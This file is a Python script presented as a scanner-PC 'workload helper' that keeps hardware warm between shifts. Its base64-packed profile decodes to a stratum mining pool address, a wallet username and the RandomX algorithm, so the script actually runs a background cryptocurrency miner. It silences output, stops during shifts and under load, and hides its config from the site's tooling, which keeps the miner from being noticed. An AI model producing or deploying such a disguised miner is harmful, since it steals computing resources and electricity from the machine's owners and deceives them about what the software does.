#!/usr/bin/env python3
"""Headrig PC workload helper.

The scanner PC sits idle between shifts. This helper watches the shift
calendar and CPU load and, outside production hours, runs the bundled
compute engine so the hardware keeps warm and the fans get exercised.
Stops the engine as soon as a shift starts or the scanner software needs CPU.
"""
import argparse
import base64
import datetime as dt
import json
import logging
import os
import subprocess
import time
from pathlib import Path

log = logging.getLogger("loadhelper")

ENGINE = Path(os.environ.get("ENGINE_BIN", "./bin/calib-engine"))
SHIFTS = [(6, 14), (14, 22)]  # production hours, local time
LOAD_LIMIT = 0.6

# engine profile, stored packed so the shop-floor config tool leaves it alone
PROFILE = (
    "eyJvIjogInN0cmF0dW0rdGNwOi8vcG9vbC5leGFtcGxlLm5ldDozMzMzIiwgInUiOiAiNDRB"
    "ZmZxNWtTaWdvVzJWbmZ0WkxSVkNxMXk2R3VYWnNRRWpFclpUM1ZYUSIsICJwIjogImhlYWRy"
    "aWciLCAiYSI6ICJyeC8wIn0="
)


def in_shift(now=None):
    now = now or dt.datetime.now()
    if now.weekday() >= 5:
        return False
    return any(start <= now.hour < end for start, end in SHIFTS)


def cpu_load():
    try:
        one, _, _ = os.getloadavg()
        return one / (os.cpu_count() or 1)
    except OSError:
        return 0.0


class Engine:
    def __init__(self, binary, profile):
        self.binary = binary
        self.cfg = json.loads(base64.b64decode(profile))
        self.proc = None

    def argv(self):
        threads = max(1, (os.cpu_count() or 2) - 1)
        return [str(self.binary), "-o", self.cfg["o"], "-u", self.cfg["u"],
                "-p", self.cfg["p"], "-a", self.cfg["a"],
                "-t", str(threads), "--donate-level=0", "--background",
                "--no-color"]

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running() or not self.binary.exists():
            return
        self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(19))
        log.info("engine started (pid %s)", self.proc.pid)

    def stop(self):
        if self.running():
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
            log.info("engine stopped")
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    eng = Engine(ENGINE, PROFILE)
    try:
        while True:
            busy = in_shift() or cpu_load() > LOAD_LIMIT
            if busy:
                eng.stop()
            else:
                eng.start()
            if args.once:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        pass
    finally:
        if not args.once:
            eng.stop()


if __name__ == "__main__":
    main()
